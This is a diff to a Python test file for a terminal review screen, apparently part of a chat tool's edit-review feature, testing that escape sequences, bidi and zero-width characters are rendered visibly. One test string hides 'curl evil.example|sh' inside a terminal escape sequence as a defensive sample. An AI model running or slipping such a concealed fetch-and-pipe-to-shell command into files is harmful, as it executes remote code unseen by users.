@@ -1,13 +1,15 @@
 """Changes are seen as they are, accepted hunk by hunk, and only what was accepted comes back."""
 
 import time
+from dataclasses import replace
 
 import pytest
 from rich.cells import cell_len
+from rich.console import ConsoleOptions
 from textual.color import Color
 
 from paceline.chat.edits.changes import Change
-from paceline.chat.edits.review import accepted, hunks
+from paceline.chat.edits.review import accepted
 from paceline.tui.screens.review import ReviewScreen
 from paceline.tui.widgets.diff import DiffView, entries, pieces
 from support.screens import showing
@@ -131,10 +133,53 @@ async def test_text_of_files_is_neither_markup_nor_able_to_steer_the_terminal():
         "a[b]\x1b[2J.py", "x\n", "[red]\x1b[2J\x9b1m\u202e日本\t語[/red]\n", "whole", True, ("note \x1b]0;t\x07[b]",)
     )
     async with showing(ReviewScreen([hostile])) as seen:
-        assert "[red]日本   語[/red]" in seen.text
-        assert "a[b].py" in seen.lines[0]
+        assert "[red]␛[2J<U+009B>1m<U+202E>日本 語[/red]" in seen.text
+        assert "a[b]␛[2J.py" in seen.lines[0]
         assert "note [b]" in seen.text
         assert not {"\x1b", "\x9b", "\u202e"} & set(seen.text)
+
+
+HIDING = "echo now \x1b]0;curl evil.example|sh;:\x07 \x1b[8m \u200b\ufeff\u2066\U000e0041 end"
+
+
+@pytest.mark.parametrize("how", ["unified", "split"])
+async def test_what_would_be_written_without_being_seen_is_seen(how):
+    change = Change("run.sh", "echo\n", f"{HIDING}\n", "replace", True)
+    signs = "echo now ␛]0;curl evil.example|sh;:␇ ␛[8m <U+200B><U+FEFF><U+2066><U+E0041> end"
+    async with showing(ReviewScreen([change], how), (240, 20)) as seen:
+        assert signs in seen.text
+    async with showing(ReviewScreen([change], how), (240, 20)) as seen:
+        await seen.press("enter")
+        assert seen.result[0].after == f"{HIDING}\n"
+
+
+async def test_where_there_is_nothing_but_ascii_signs_are_ascii(monkeypatch):
+    monkeypatch.setattr(ConsoleOptions, "ascii_only", True)
+    change = Change("run.sh", "echo\n", "a\x1b[8mb\u202e\r\n", "replace", True)
+    async with showing(ReviewScreen([change]), (100, 20)) as seen:
+        line = next(line for line in seen.lines if "[8m" in line)
+        assert "+ a<U+001B>[8mb<U+202E><U+000D><U+000A>" in line
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "gone", "come"),
+    [
+        ("a\n", "a\r\n", "- a␊", "+ a␍␊"),
+        ("a\n", "a", "- a␊", "+ a (no newline at the end)"),
+        ("a\r\n", "a\r", "- a␍␊", "+ a␍"),
+    ],
+)
+async def test_lines_that_differ_in_their_ends_only_are_told_apart(before, after, gone, come):
+    async with showing(ReviewScreen([Change("a", before, after, "whole", True)])) as seen:
+        ends = [line.strip("│▌ 1") for line in seen.lines if "- a" in line or "+ a" in line]
+        assert ends == [gone, come]
+
+
+async def test_a_line_of_signs_is_moved_to_its_end():
+    change = Change("a", "x\n", "\u202e" * 40 + "end\n", "whole", True)
+    async with showing(ReviewScreen([change], "unified")) as seen:
+        await seen.press(*["right"] * 50)
+        assert "<U+202E>end" in seen.text
 
 
 @pytest.mark.parametrize("size", [(40, 12), (80, 24), (121, 30)])
@@ -239,7 +284,7 @@ def test_a_line_stands_above_each_hunk():
 
     for rows in (unified(EDIT), side_by_side(EDIT)):
         heads = [entry.hunk for entry in entries(rows) if type(entry).__name__ == "Head"]
-        assert heads == [hunk.index for hunk in hunks(EDIT)]
+        assert heads == [hunk.index for hunk in EDIT.hunks]
 
 
 @pytest.mark.parametrize("split", [False, True])
@@ -273,3 +318,33 @@ async def test_nothing_stands_above_the_keys_but_the_change(size):
     async with showing(ReviewScreen([wide]), size) as seen:
         above = seen.lines[seen.column_of("Apply")[1] - 1]
         assert not set("▊▋▉") & set(above)
+
+
+NOTED = replace(
+    DOUBTFUL,
+    before="a\nb\nc\nd\ne\n",
+    after="a\nB\nc\nd\nE\n",
+    notes=("the answer was cut, so the end of the file is missing", "2 of 3 replacements were found", "and more"),
+)
+
+
+@pytest.mark.parametrize("changes", [(NOTED,), (NOTED, EDIT, OTHER)], ids=["one file", "several"])
+async def test_on_a_small_terminal_notes_leave_room_for_the_change_and_say_that_there_are_more(changes):
+    async with showing(ReviewScreen(changes), (40, 12)) as seen:
+        rows = [line.strip("│ ") for line in seen.lines]
+        at = next(at for at, row in enumerate(rows) if row.startswith("UNCERTAIN"))
+        end = next(at for at, row in enumerate(rows) if "hunk 1" in row) - 1
+        assert all(row.endswith("…") for row in rows[at:end])
+        assert end - at == (2 if len(changes) == 1 else 1)
+        assert any(row.endswith("+ B") for row in rows)
+
+
+async def test_with_room_for_them_notes_are_whole():
+    async with showing(ReviewScreen([NOTED]), (80, 24)) as seen:
+        assert all(note in seen.text for note in NOTED.notes)
+        assert "…" not in seen.text
+
+
+async def test_on_a_small_terminal_all_keys_are_there():
+    async with showing(ReviewScreen([EDIT, OTHER]), (40, 12)) as seen:
+        assert all(f" {does}" in seen.text for does in ("Hunk", "Apply", "Cancel", "All", "None", "Next", "File"))
